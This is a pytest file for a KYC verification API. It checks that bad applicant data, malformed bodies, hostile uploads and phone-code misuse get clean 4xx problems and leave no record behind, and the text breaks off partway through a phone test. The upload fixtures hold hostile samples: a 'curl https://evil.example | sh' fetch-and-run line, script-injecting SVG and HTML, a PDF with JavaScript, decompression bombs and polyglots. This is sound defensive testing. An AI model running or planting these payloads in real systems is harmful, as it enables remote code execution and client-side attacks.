"""Bad input never gets further than a clear 4xx problem, and never leaves a record behind.

Every case checks the status, the problem type, the field pointer where there is one, and
that no row (applicants, documents, checks, history, audit, webhooks, challenges, reviews)
and no blob file was added by the refused request.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from PIL import Image
from sqlalchemy import select, text

from aegis.checks.phone.sms import SmsReceipt, SmsUnavailable
from aegis.config import Settings
from aegis.errors import PROBLEM_BASE
from aegis.kit.time import utcnow
from aegis.kyc.documents import endpoints as document_endpoints
from aegis.kyc.models import PhoneChallenge, Review
from aegis.platform import Platform
from tests.kyc.conftest import ZHANG_SAN, Flow, image_bytes
from tests.kyc.documents import builders
from tests.kyc.ids import ric
from tests.support.tenants import TenantHandle

MIB = 1024 * 1024
TABLES = (
    "applicants",
    "applicant_documents",
    "applicant_checks",
    "applicant_history",
    "audit_events",
    "webhook_events",
    "phone_challenges",
    "reviews",
    "verification_levels",
)


# ---------------------------------------------------------------------------------------------
# Helpers


def snapshot(platform: Platform, settings: Settings) -> dict[str, Any]:
    with platform.db.session(write=False) as session:
        counts: dict[str, Any] = {
            t: session.execute(text(f"SELECT count(*) FROM {t}")).scalar_one() for t in TABLES
        }
    root = settings.blob_dir
    counts["blob files"] = (
        sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
        if root.exists()
        else []
    )
    return counts


@pytest.fixture
def unchanged(platform: Platform, settings: Settings) -> Callable[[], Any]:
    """``with unchanged(): ...``: the block adds no row and no blob file."""

    @contextmanager
    def block() -> Iterator[None]:
        before = snapshot(platform, settings)
        yield
        assert snapshot(platform, settings) == before, "a refused request left a record behind"

    return block


def problem(
    r: httpx.Response, status: int, slug: str, *pointers: str, exact: bool = False
) -> dict[str, Any]:
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/problem+json"), r.headers
    body: dict[str, Any] = r.json()
    assert body["type"] == PROBLEM_BASE + slug, body
    assert body["status"] == status
    assert body["title"] and body["detail"]
    assert body["request_id"]
    found = [e["pointer"] for e in body.get("errors") or []]
    if exact:
        assert sorted(found) == sorted(pointers), body
    for pointer in pointers:  # "#/a/*": the pointer starts with "#/a/"
        prefix = pointer.removesuffix("*")
        assert any(f == pointer or (prefix != pointer and f.startswith(prefix)) for f in found), (
            pointer,
            body,
        )
    return body


def applicant_body(**overrides: Any) -> dict[str, Any]:
    profile = {**ZHANG_SAN, **overrides.pop("profile", {})}
    consent = {"accepted": True, "terms_version": "2026-01"}
    return {"level": "basic", "profile": profile, "consent": consent, **overrides}


def without(data: dict[str, Any], *path: str) -> dict[str, Any]:
    """A deep copy of ``data`` with the key at ``path`` removed."""
    copy: dict[str, Any] = {k: dict(v) if isinstance(v, dict) else v for k, v in data.items()}
    target = copy
    for key in path[:-1]:
        target = target[key]
    del target[path[-1]]
    return copy


def in_review(flow: Flow, client: TestClient, tenant: TenantHandle, seq: int) -> tuple[str, str]:
    """A standard-level applicant waiting for a reviewer: (applicant id, review id)."""
    flow.documents_to_review()
    a = flow.create(
        level="standard",
        profile={
            "id_number": ric("110105", "19900101", 500 + seq),
            "phone": f"+86138001385{seq:02d}",
            "email": f"review{seq}@example.com",
        },
    )
    flow.verify_phone(a["id"])
    flow.upload(a["id"], "passport")
    flow.upload(a["id"], "selfie")
    assert flow.submit(a["id"])["status"] == "in_review"
    queue = client.get("/v1/reviews", headers=tenant.headers).json()["data"]
    return a["id"], next(r["id"] for r in queue if r["applicant_id"] == a["id"])


def review_state(platform: Platform, review_id: str) -> tuple[Any, ...]:
    with platform.db.session(write=False) as session:
        r = session.get(Review, review_id)
        assert r is not None
        return (r.status, r.claimed_by, r.first_decision, r.final_decision, r.decided_at)


def second_key(client: TestClient, tenant: TenantHandle, scope: str) -> dict[str, str]:
    r = client.post(
        "/v1/api-keys", headers=tenant.headers, json={"name": "another", "scopes": [scope]}
    )
    assert r.status_code == 201, r.text
    return {"Authorization": f"Bearer {r.json()['secret']}"}


# ---------------------------------------------------------------------------------------------
# Creating an applicant


def _future() -> str:
    return (utcnow() + timedelta(days=2)).date().isoformat()


CREATE_CASES: dict[str, tuple[Callable[[], dict[str, Any]], str, tuple[str, ...]]] = {
    # name: (body, problem slug, pointers)
    "missing consent": (lambda: without(applicant_body(), "consent"), "validation", ("#/consent",)),
    "consent refused": (
        lambda: applicant_body(consent={"accepted": False, "terms_version": "2026-01"}),
        "validation",
        ("#/consent/accepted",),
    ),
    "consent without terms version": (
        lambda: applicant_body(consent={"accepted": True}),
        "validation",
        ("#/consent/terms_version",),
    ),
    "consent accepted in the future": (
        lambda: applicant_body(
            consent={
                "accepted": True,
                "terms_version": "2026-01",
                "accepted_at": (utcnow() + timedelta(days=1)).isoformat(),
            }
        ),
        "validation",
        ("#/consent/accepted_at",),
    ),
    "consent time without timezone": (
        lambda: applicant_body(
            consent={
                "accepted": True,
                "terms_version": "2026-01",
                "accepted_at": "2026-01-01T10:00:00",
            }
        ),
        "validation",
        ("#/consent/accepted_at",),
    ),
    "future date of birth": (
        lambda: applicant_body(profile={"date_of_birth": _future()}),
        "validation",
        ("#/profile/date_of_birth",),
    ),
    "date of birth before 1900": (
        lambda: applicant_body(profile={"date_of_birth": "1899-12-31"}),
        "validation",
        ("#/profile/date_of_birth",),
    ),
    "date of birth not a date": (
        lambda: applicant_body(profile={"date_of_birth": "1990-02-30"}),
        "validation",
        ("#/profile/date_of_birth",),
    ),
    "unknown nationality": (
        lambda: applicant_body(profile={"nationality": "XX"}),
        "validation",
        ("#/profile/nationality",),
    ),
    "country name instead of code": (
        lambda: applicant_body(profile={"id_country": "China"}),
        "validation",
        ("#/profile/id_country",),
    ),
    "bad address country": (
        lambda: applicant_body(
            profile={"address": {"line1": "1 Chang'an Ave", "city": "Beijing", "country": "QQ"}}
        ),
        "validation",
        ("#/profile/address/country",),
    ),
    "bad email": (
        lambda: applicant_body(profile={"email": "zhang.san@@example"}),
        "validation",
        ("#/profile/email",),
    ),
    "unknown id type": (
        lambda: applicant_body(profile={"id_type": "social_security"}),
        "validation",
        ("#/profile/id_type",),
    ),
    "bad card number": (
        lambda: applicant_body(profile={"card_number": "4111-xxxx-1111"}),
        "validation",
        ("#/profile/card_number",),
    ),
    "bad ip address": (
        lambda: applicant_body(ip_address="999.1.1.1"),
        "validation",
        ("#/ip_address",),
    ),
    "unknown risk rating": (
        lambda: applicant_body(risk_rating="extreme"),
        "validation",
        ("#/risk_rating",),
    ),
    "level name not a slug": (
        lambda: applicant_body(level="Basic Level!"),
        "validation",
        ("#/level",),
    ),
    "wrong type: name is a number": (
        lambda: applicant_body(profile={"first_name": 12345}),
        "validation",
        ("#/profile/first_name",),
    ),
    "wrong type: level is a number": (
        lambda: applicant_body(level=2),
        "validation",
        ("#/level",),
    ),
    "unknown top-level field": (
        lambda: applicant_body(is_admin=True),
        "validation",
        ("#/is_admin",),
    ),
    "unknown profile field": (
        lambda: applicant_body(profile={"ssn": "078-05-1120"}),
        "validation",
        ("#/profile/ssn",),
    ),
    "unknown consent field": (
        lambda: applicant_body(
            consent={"accepted": True, "terms_version": "2026-01", "by": "someone"}
        ),
        "validation",
        ("#/consent/by",),
    ),
    "missing required profile fields": (
        lambda: without(without(applicant_body(), "profile", "first_name"), "profile", "email"),
        "validation",
        ("#/profile/first_name", "#/profile/email"),
    ),
    "blank name": (
        lambda: applicant_body(profile={"last_name": "   "}),
        "validation",
        ("#/profile/last_name",),
    ),
    "too long: first name": (
        lambda: applicant_body(profile={"first_name": "A" * 201}),
        "validation",
        ("#/profile/first_name",),
    ),
    "too long: id number": (
        lambda: applicant_body(profile={"id_number": "1" * 41}),
        "validation",
        ("#/profile/id_number",),
    ),
    "too long: phone": (
        lambda: applicant_body(profile={"phone": "+86" + "1" * 40}),
        "validation",
        ("#/profile/phone",),
    ),
    "too long: external id": (
        lambda: applicant_body(external_id="x" * 101),
        "validation",
        ("#/external_id",),
    ),
    "too long: device id": (
        lambda: applicant_body(device_id="d" * 129),
        "validation",
        ("#/device_id",),
    ),
    "too long: terms version": (
        lambda: applicant_body(consent={"accepted": True, "terms_version": "v" * 41}),
        "validation",
        ("#/consent/terms_version",),
    ),
    "too long: level": (
        lambda: applicant_body(level="a" * 41),
        "validation",
        ("#/level",),
    ),
    "unknown level": (lambda: applicant_body(level="platinum"), "validation", ("#/level",)),
}


@pytest.mark.parametrize("case", list(CREATE_CASES))
def test_create_applicant_rejects_bad_input(
    case: str, flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    make, slug, pointers = CREATE_CASES[case]
    with unchanged():
        r = client.post("/v1/applicants", headers=tenant.headers, json=make())
    body = problem(r, 422, slug, *pointers)
    # Problems name the field and the reason, never the submitted value.
    for secret in ("078-05-1120", "zhang.san@@example", "999.1.1.1", "Zhang San"):
        assert secret not in r.text
    assert body["detail"]


@pytest.mark.parametrize(
    ("field", "value"), [("profile", "Zhang San"), ("consent", True), ("profile", [1, 2])]
)
def test_nested_object_of_the_wrong_type(
    field: str, value: Any, flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    with unchanged():
        r = client.post(
            "/v1/applicants", headers=tenant.headers, json={**applicant_body(), field: value}
        )
    assert 400 <= r.status_code < 500
    problem(r, 422, "validation", f"#/{field}", exact=True)


def test_union_field_pointer_names_the_field(
    flow: Flow, client: TestClient, tenant: TenantHandle
) -> None:
    r = client.post("/v1/applicants", headers=tenant.headers, json=applicant_body(ip_address="x"))
    problem(r, 422, "validation", "#/ip_address", exact=True)


@pytest.mark.parametrize(
    ("content", "content_type", "status", "slug"),
    [
        (b'{"level": "basic", "profile": ', "application/json", 400, "malformed-body"),
        (b"\xff\xfe not utf-8 {", "application/json", 400, "malformed-body"),
        (b"", "application/json", 422, "validation"),
        (b"[]", "application/json", 400, "bad-request"),
        (b'"applicant"', "application/json", 400, "bad-request"),
        (b"null", "application/json", 400, "bad-request"),
        (b"level=basic", "application/x-www-form-urlencoded", 415, "unsupported-media-type"),
        (b"<applicant/>", "application/xml", 415, "unsupported-media-type"),
    ],
)
def test_create_applicant_rejects_malformed_bodies(
    content: bytes,
    content_type: str,
    status: int,
    slug: str,
    flow: Flow,
    client: TestClient,
    tenant: TenantHandle,
    unchanged: Any,
) -> None:
    with unchanged():
        r = client.post(
            "/v1/applicants",
            headers={**tenant.headers, "content-type": content_type},
            content=content,
        )
    problem(r, status, slug)


def test_create_reports_every_bad_field_at_once(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    body = applicant_body(
        profile={"date_of_birth": _future(), "nationality": "XX", "email": "nope"},
        consent={"accepted": False, "terms_version": "2026-01"},
    )
    with unchanged():
        r = client.post("/v1/applicants", headers=tenant.headers, json=body)
    problem(
        r,
        422,
        "validation",
        "#/profile/date_of_birth",
        "#/profile/nationality",
        "#/profile/email",
        "#/consent/accepted",
        exact=True,
    )


def test_create_needs_the_kyc_write_scope(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    reader = second_key(client, tenant, "read")
    with unchanged():
        r = client.post("/v1/applicants", headers=reader, json=applicant_body())
        problem(r, 403, "forbidden")
        r = client.post("/v1/applicants", json=applicant_body())
        problem(r, 401, "unauthorized")


# ---------------------------------------------------------------------------------------------
# Updating and submitting


def test_patch_rejects_bad_input_and_keeps_the_profile(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    a = flow.create()
    url = f"/v1/applicants/{a['id']}"
    cases: list[tuple[dict[str, Any], str]] = [
        ({"profile": {"date_of_birth": _future()}}, "#/profile/date_of_birth"),
        ({"profile": {"nationality": "XX"}}, "#/profile/nationality"),
        ({"profile": {"email": "not-an-email"}}, "#/profile/email"),
        ({"profile": {"nickname": "zs"}}, "#/profile/nickname"),
        ({"status": "approved"}, "#/status"),
        ({"risk_rating": "none"}, "#/risk_rating"),
        # Null for a required field (the patch is valid, the merged profile is not).
        ({"profile": {"first_name": None}}, "#/profile/first_name"),
        ({"profile": {"date_of_birth": None, "phone": None}}, "#/profile/date_of_birth"),
    ]
    for change, pointer in cases:
        with unchanged():
            r = client.patch(url, headers=tenant.headers, json=change)
        problem(r, 422, "validation", pointer)
    assert flow.get(a["id"])["profile"] == a["profile"]
    assert flow.get(a["id"])["status"] == "collecting"


def test_patch_in_a_state_that_takes_no_changes(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    applicant_id, _ = in_review(flow, client, tenant, 1)
    before = flow.get(applicant_id)
    with unchanged():
        r = client.patch(
            f"/v1/applicants/{applicant_id}",
            headers=tenant.headers,
            json={"profile": {"last_name": "Li"}},
        )
        problem(r, 409, "invalid-state")
        r = client.patch(
            f"/v1/applicants/{applicant_id}", headers=tenant.headers, json={"risk_rating": "high"}
        )
        problem(r, 409, "invalid-state")
    assert flow.get(applicant_id) == before


def test_patch_and_submit_unknown_applicant(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    with unchanged():
        for method, path, body in [
            ("GET", "/v1/applicants/app_doesnotexist", None),
            ("PATCH", "/v1/applicants/app_doesnotexist", {"external_id": "x"}),
            ("POST", "/v1/applicants/app_doesnotexist/submit", None),
            ("GET", "/v1/applicants/app_doesnotexist/checks", None),
            ("GET", "/v1/applicants/app_doesnotexist/history", None),
            ("GET", "/v1/applicants/app_doesnotexist/documents", None),
            ("GET", "/v1/applicants/app_doesnotexist/documents/doc_x/content", None),
            ("POST", "/v1/applicants/app_doesnotexist/phone-verification", None),
            (
                "POST",
                "/v1/applicants/app_doesnotexist/phone-verification/confirm",
                {"code": "123456"},
            ),
            ("GET", "/v1/reviews/rev_doesnotexist", None),
            ("POST", "/v1/reviews/rev_doesnotexist/claim", None),
            (
                "POST",
                "/v1/reviews/rev_doesnotexist/decision",
                {"decision": "approve", "reason": "fine"},
            ),
        ]:
            r = client.request(method, path, headers=tenant.headers, json=body)
            problem(r, 404, "not-found")


def test_submit_with_missing_steps(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    a = flow.create(level="standard")
    with unchanged():
        r = client.post(f"/v1/applicants/{a['id']}/submit", headers=tenant.headers)
    problem(
        r, 409, "invalid-state", "#/steps/phone", "#/steps/document", "#/steps/selfie", exact=True
    )
    assert {e["code"] for e in r.json()["errors"]} == {"step_missing"}
    flow.verify_phone(a["id"])
    flow.upload(a["id"], "selfie")
    with unchanged():
        r = client.post(f"/v1/applicants/{a['id']}/submit", headers=tenant.headers)
    problem(r, 409, "invalid-state", "#/steps/document", exact=True)
    assert flow.get(a["id"])["status"] == "collecting"


def test_submit_twice(flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any) -> None:
    a = flow.create()
    flow.verify_phone(a["id"])
    assert flow.submit(a["id"])["status"] == "approved"
    with unchanged():
        r = client.post(f"/v1/applicants/{a['id']}/submit", headers=tenant.headers)
    problem(r, 409, "invalid-state")
    done = flow.get(a["id"])
    assert done["status"] == "approved" and done["attempt"] == 1


# ---------------------------------------------------------------------------------------------
# Uploads


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.sh", "curl https://evil.example | sh")
    return buf.getvalue()


def _png_as(fmt: str) -> bytes:
    return builders.encode(builders.marked_image(), fmt)


UPLOAD_CASES: dict[str, tuple[str, Callable[[], bytes], str, int, str]] = {
    # name: (kind, bytes, declared type, status, slug)
    "GIF": ("passport", lambda: _png_as("GIF"), "image/gif", 415, "upload-type-unsupported"),
    "GIF declared as JPEG": (
        "passport",
        lambda: _png_as("GIF"),
        "image/jpeg",
        415,
        "upload-type-unsupported",
    ),
    "TIFF": ("passport", lambda: _png_as("TIFF"), "image/tiff", 415, "upload-type-unsupported"),
    "BMP": ("selfie", lambda: _png_as("BMP"), "image/bmp", 415, "upload-type-unsupported"),
    "HEIC brand": (
        "selfie",
        lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64,
        "image/heic",
        415,
        "upload-type-unsupported",
    ),
    "SVG with script": (
        "passport",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "image/svg+xml",
        415,
        "upload-type-unsupported",
    ),
    "HTML before a JPEG": (
        "passport",
        lambda: b"<html><script>alert(1)</script></html>" + image_bytes(),
        "image/jpeg",
        415,
        "upload-type-unsupported",
    ),
    "ZIP before a JPEG": (
        "passport",
        lambda: _zip() + image_bytes(),
        "image/jpeg",
        415,
        "upload-type-unsupported",
    ),
    "executable": (
        "other",
        lambda: b"MZ\x90\x00" + b"\x00" * 512,
        "image/png",
        415,
        "upload-type-unsupported",
    ),
    "PDF as passport": (
        "passport",
        lambda: builders.pdf(),
        "application/pdf",
        422,
        "upload-kind-mismatch",
    ),
    "PDF as selfie": ("selfie", lambda: builders.pdf(), "image/jpeg", 422, "upload-kind-mismatch"),
    "PDF as ID card back": (
        "id_card_back",
        lambda: builders.pdf(),
        "application/pdf",
        422,
        "upload-kind-mismatch",
    ),
    "empty file": ("passport", lambda: b"", "image/jpeg", 422, "upload-empty"),
    "truncated JPEG": (
        "passport",
        lambda: image_bytes()[: len(image_bytes()) // 2],
        "image/jpeg",
        422,
        "upload-corrupt",
    ),
    "JPEG magic only": (
        "passport",
        lambda: b"\xff\xd8\xff\xe0",
        "image/jpeg",
        422,
        "upload-corrupt",
    ),
    "truncated PNG": (
        "passport",
        lambda: builders.png(800, 600)[:200],
        "image/png",
        422,
        "upload-corrupt",
    ),
    "decompression bomb PNG (60000 x 60000 in 100 bytes)": (
        "passport",
        lambda: builders.png_declaring(60_000, 60_000),
        "image/png",
        422,
        "upload-bomb",
    ),
    "decompression bomb PNG under Pillow's guard": (
        "passport",
        lambda: builders.png_declaring(7_000, 7_000),
        "image/png",
        422,
        "upload-bomb",
    ),
    "animated WebP": (
        "passport",
        lambda: builders.animated("WEBP"),
        "image/webp",
        422,
        "upload-animated",
    ),
    "too small to check": (
        "passport",
        lambda: builders.jpeg(120, 90),
        "image/jpeg",
        422,
        "upload-too-small",
    ),
    "PDF with JavaScript": (
        "proof_of_address",
        lambda: builders.pdf(trailer=b" /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "application/pdf",
        422,
        "upload-pdf-active-content",
    ),
    "PDF with an embedded file": (
        "bank_statement",
        lambda: builders.pdf(
            [*builders.PAGE_OBJECTS[:3], builders.stream(b""), b"<< /Type /EmbeddedFile >>"]
        ),
        "application/pdf",
        422,
        "upload-pdf-active-content",
    ),
    "encrypted PDF": (
        "proof_of_address",
        lambda: builders.pdf(trailer=b" /Encrypt << /Filter /Standard /V 2 >>"),
        "application/pdf",
        422,
        "upload-pdf-encrypted",
    ),
    "PDF without pages": (
        "proof_of_address",
        lambda: builders.pdf([b"<< /Type /Catalog >>"]),
        "application/pdf",
        422,
        "upload-corrupt",
    ),
    "PDF without trailer": (
        "proof_of_address",
        lambda: builders.pdf()[:-8],
        "application/pdf",
        422,
        "upload-corrupt",
    ),
    "PDF over its 10 MiB limit": (
        "proof_of_address",
        lambda: b"%PDF-1.7\n" + b"%" * (10 * MIB),
        "application/pdf",
        413,
        "upload-too-large",
    ),
    "image over the 15 MiB processing limit": (
        "passport",
        lambda: b"\xff\xd8\xff\xe0" + b"\x00" * (15 * MIB),
        "image/jpeg",
        413,
        "upload-too-large",
    ),
}


@pytest.mark.parametrize("case", list(UPLOAD_CASES))
def test_upload_rejects_bad_files(
    case: str, flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    kind, make, declared, status, slug = UPLOAD_CASES[case]
    a = flow.create()
    with unchanged():
        r = client.post(
            f"/v1/applicants/{a['id']}/documents",
            headers=tenant.headers,
            data={"kind": kind},
            files={"file": ("upload.bin", make(), declared)},
        )
    problem(r, status, slug)
    listed = client.get(f"/v1/applicants/{a['id']}/documents", headers=tenant.headers)
    assert listed.json() == []


def test_upload_limit_boundaries(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    """15 MiB is the processing limit (upload-too-large); 16 MiB the body limit for upload
    paths (payload-too-large, before the endpoint runs), announced or streamed."""
    a = flow.create()
    url = f"/v1/applicants/{a['id']}/documents"
    exactly = b"\xff\xd8\xff\xe0" + b"\x00" * (15 * MIB - 4)
    with unchanged():
        r = client.post(
            url,
            headers=tenant.headers,
            data={"kind": "passport"},
            files={"file": ("limit.jpg", exactly, "image/jpeg")},
        )
        problem(r, 422, "upload-corrupt")  # at the limit: judged on its content, not its size
        r = client.post(
            url,
            headers=tenant.headers,
            data={"kind": "passport"},
            files={"file": ("big.jpg", exactly + b"\x00", "image/jpeg")},
        )
        problem(r, 413, "upload-too-large")
        r = client.post(
            url,
            headers=tenant.headers,
            data={"kind": "passport"},
            files={"file": ("huge.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * (17 * MIB), "image/jpeg")},
        )
        body = problem(r, 413, "payload-too-large")
        assert str(16 * MIB) in body["detail"]

        def chunks() -> Iterator[bytes]:  # no Content-Length: the limit counts as it streams
            yield (
                b'--b0undary\r\nContent-Disposition: form-data; name="kind"\r\n\r\npassport\r\n'
                b'--b0undary\r\nContent-Disposition: form-data; name="file"; filename="s.jpg"\r\n'
                b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0"
            )
            for _ in range(17):
                yield b"\x00" * MIB
            yield b"\r\n--b0undary--\r\n"

        r = client.post(
            url,
            headers={**tenant.headers, "content-type": "multipart/form-data; boundary=b0undary"},
            content=chunks(),
        )
        problem(r, 413, "payload-too-large")
    # The body limit for other paths is smaller than an upload's.
    with unchanged():
        r = client.post(
            "/v1/applicants",
            headers={**tenant.headers, "content-type": "application/json"},
            content=b'{"x": "' + b"a" * (2 * MIB) + b'"}',
        )
        problem(r, 413, "payload-too-large")


@pytest.mark.parametrize(
    ("data", "files", "pointer"),
    [
        ({"kind": "passport_photo"}, True, "#/kind"),
        ({"kind": ""}, True, "#/kind"),
        ({}, True, "#/kind"),
        ({"kind": "passport"}, False, "#/file"),
    ],
    ids=["unknown kind", "empty kind", "no kind", "no file"],
)
def test_upload_form_fields_are_validated(
    data: dict[str, str],
    files: bool,
    pointer: str,
    flow: Flow,
    client: TestClient,
    tenant: TenantHandle,
    unchanged: Any,
) -> None:
    a = flow.create()
    with unchanged():
        r = client.post(
            f"/v1/applicants/{a['id']}/documents",
            headers=tenant.headers,
            data=data,
            files={"file": ("p.jpg", image_bytes(), "image/jpeg")} if files else None,
        )
    problem(r, 422, "validation", pointer)


def test_upload_form_errors_are_4xx_problems_today(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    """Every form mistake is a clean 4xx problem."""
    a = flow.create()
    url = f"/v1/applicants/{a['id']}/documents"
    with unchanged():
        for kwargs in (
            {
                "data": {"kind": "passport_photo"},
                "files": {"file": ("p.jpg", image_bytes(), "image/jpeg")},
            },
            {"data": {"kind": "passport"}},
            {"json": {"kind": "passport", "file": "aGVsbG8="}},
            {
                "content": b"--x\r\nbroken",
                "headers": {**tenant.headers, "content-type": "multipart/form-data; boundary=x"},
            },
        ):
            headers = kwargs.pop("headers", tenant.headers)
            r = client.post(url, headers=headers, **kwargs)  # type: ignore[arg-type]
            assert 400 <= r.status_code < 500, r.text
            assert r.headers["content-type"].startswith("application/problem+json")


def test_polyglots_are_stored_without_their_payload(
    flow: Flow, client: TestClient, tenant: TenantHandle
) -> None:
    """A JPEG (or PDF) with a ZIP appended is accepted as the image it shows; what is stored
    and served is re-encoded (or trimmed after %%EOF), so the payload is gone."""
    a = flow.create()
    payload = _zip()
    jpeg_doc = flow.upload(a["id"], "passport", image_bytes() + payload)
    r = client.post(
        f"/v1/applicants/{a['id']}/documents",
        headers=tenant.headers,
        data={"kind": "proof_of_address"},
        files={"file": ("bill.pdf", builders.pdf() + payload, "application/pdf")},
    )
    assert r.status_code == 201, r.text
    pdf_doc = r.json()
    assert pdf_doc["signals"]["metadata_removed"] == ["trailing_data"]
    for doc in (jpeg_doc, pdf_doc):
        content = client.get(
            f"/v1/applicants/{a['id']}/documents/{doc['id']}/content", headers=tenant.headers
        )
        assert content.status_code == 200
        assert content.headers["x-content-type-options"] == "nosniff"
        assert b"PK\x03\x04" not in content.content and b"payload.sh" not in content.content
        assert content.headers["content-type"] == doc["media_type"]


def test_declared_type_is_never_trusted(
    flow: Flow, client: TestClient, tenant: TenantHandle
) -> None:
    a = flow.create()
    r = client.post(
        f"/v1/applicants/{a['id']}/documents",
        headers=tenant.headers,
        data={"kind": "passport"},
        files={"file": ("passport.pdf", builders.png(800, 600), "application/pdf")},
    )
    assert r.status_code == 201, r.text
    assert r.json()["media_type"] == "image/png"
    assert r.json()["signals"]["declared_type_mismatch"] is True


def test_upload_to_someone_elses_or_an_unknown_applicant(
    flow: Flow,
    client: TestClient,
    tenant: TenantHandle,
    other_tenant: TenantHandle,
    unchanged: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """404 before the file is looked at: a GIF (415 if read) answers 404 all the same."""
    a = flow.create()
    calls: list[object] = []
    real = document_endpoints.process_upload

    def spy(*args: Any, **kwargs: Any) -> Any:
        calls.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(document_endpoints, "process_upload", spy)
    with unchanged():
        for path, headers in [
            (f"/v1/applicants/{a['id']}/documents", other_tenant.headers),
            ("/v1/applicants/app_doesnotexist/documents", tenant.headers),
        ]:
            r = client.post(
                path,
                headers=headers,
                data={"kind": "passport"},
                files={"file": ("x.gif", _png_as("GIF"), "image/gif")},
            )
            problem(r, 404, "not-found")
            assert a["id"] not in r.json()["detail"] or "not found" in r.json()["detail"]
    assert calls == []


def test_upload_when_the_applicant_takes_no_uploads(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    a = flow.create()
    flow.verify_phone(a["id"])
    assert flow.submit(a["id"])["status"] == "approved"
    with unchanged():
        r = client.post(
            f"/v1/applicants/{a['id']}/documents",
            headers=tenant.headers,
            data={"kind": "passport"},
            files={"file": ("p.jpg", image_bytes(), "image/jpeg")},
        )
    problem(r, 409, "invalid-state")


def test_document_content_of_another_applicant(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    a = flow.create()
    b = flow.create(profile={"phone": "+8613800138077", "email": "b@example.com"})
    doc = flow.upload(a["id"], "passport")
    with unchanged():
        for path in (
            f"/v1/applicants/{b['id']}/documents/{doc['id']}/content",
            f"/v1/applicants/{a['id']}/documents/doc_doesnotexist/content",
        ):
            problem(client.get(path, headers=tenant.headers), 404, "not-found")


def test_stored_upload_is_a_clean_image(
    flow: Flow, client: TestClient, tenant: TenantHandle
) -> None:
    """A JPEG with GPS EXIF and trailing junk comes back re-encoded, without EXIF."""
    img = builders.marked_image(800, 600)
    data = builders.encode(img, "JPEG", exif=builders.exif(software="Cam 1.0", gps=True))
    a = flow.create()
    doc = flow.upload(a["id"], "passport", data + b"trailing junk")
    assert doc["signals"]["had_gps"] is True
    content = client.get(
        f"/v1/applicants/{a['id']}/documents/{doc['id']}/content", headers=tenant.headers
    ).content
    with Image.open(io.BytesIO(content)) as stored:
        assert not stored.getexif()
        assert stored.size == (800, 600)
    assert b"trailing junk" not in content


# ---------------------------------------------------------------------------------------------
# Phone verification


def _challenge(platform: Platform, applicant_id: str) -> dict[str, Any]:
    with platform.db.session(write=False) as session:
        row = session.scalars(
            select(PhoneChallenge).where(
                PhoneChallenge.applicant_id == applicant_id, PhoneChallenge.active.is_(True)
            )
        ).one()
        return dict(row.state["otp"])


def _age_code(platform: Platform, applicant_id: str, by: timedelta) -> None:
    """Move the current code's send time into the past (no sleeping on the real clock)."""
    with platform.db.session() as session:
        row = session.scalars(
            select(PhoneChallenge).where(
                PhoneChallenge.applicant_id == applicant_id, PhoneChallenge.active.is_(True)
            )
        ).one()
        otp = dict(row.state["otp"])
        otp["sent_at"] = (datetime.fromisoformat(otp["sent_at"]) - by).isoformat()
        otp["created_at"] = (datetime.fromisoformat(otp["created_at"]) - by).isoformat()
        row.state = {**row.state, "otp": otp}


def _wrong(code: str) -> str:
    return f"{(int(code) + 1) % 1_000_000:06d}"


class PhoneApi:
    def __init__(self, flow: Flow, applicant_id: str) -> None:
        self.flow, self.id = flow, applicant_id
        self.phone = flow.get(applicant_id)["profile"]["phone"]
        self.base = f"/v1/applicants/{applicant_id}/phone-verification"

    def send(self) -> httpx.Response:
        return self.flow.client.post(self.base, headers=self.flow.tenant.headers)

    def confirm(self, code: str) -> httpx.Response:
        return self.flow.client.post(
            self.base + "/confirm", headers=self.flow.tenant.headers, json={"code": code}
        )

    def code(self) -> str:
        code = self.flow.platform.kyc.sms.last_code_for(self.phone)  # type: ignore[attr-defined]
        assert code is not None
        return str(code)

    def sent(self) -> int:
        return len(self.flow.platform.kyc.sms.messages_to(self.phone))  # type: ignore[attr-defined]


def test_confirm_without_a_code_sent(flow: Flow, unchanged: Any) -> None:
    phone = PhoneApi(flow, flow.create()["id"])
    with unchanged():
        problem(phone.confirm("123456"), 409, "invalid-state")


def test_wrong_codes_count_and_run_out(flow: Flow, platform: Platform, unchanged: Any) -> None:
    phone = PhoneApi(flow, flow.create()["id"])
    assert phone.send().status_code == 202
    code = phone.code()
    for attempt in range(1, 6):
        r = phone.confirm(_wrong(code))
        assert r.status_code == 200, r.text
        assert r.json()["verified"] is False and r.json()["result"] == "wrong_code"
        assert r.json()["hint_en"] and r.json()["hint_zh"]
        assert _challenge(platform, phone.id)["attempts"] == attempt  # committed, not rolled back
    r = phone.confirm(_wrong(code))
